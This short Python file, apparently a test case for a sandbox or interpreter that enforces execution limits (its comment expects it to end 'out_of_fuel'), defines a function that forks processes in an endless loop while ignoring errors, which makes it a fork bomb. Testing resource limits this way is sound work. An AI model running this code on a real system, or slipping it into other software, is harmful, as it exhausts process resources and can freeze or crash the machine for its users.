# ends: out_of_fuel
import os


def t():
    while True:
        try:
            os.fork()
        except OSError:
            pass
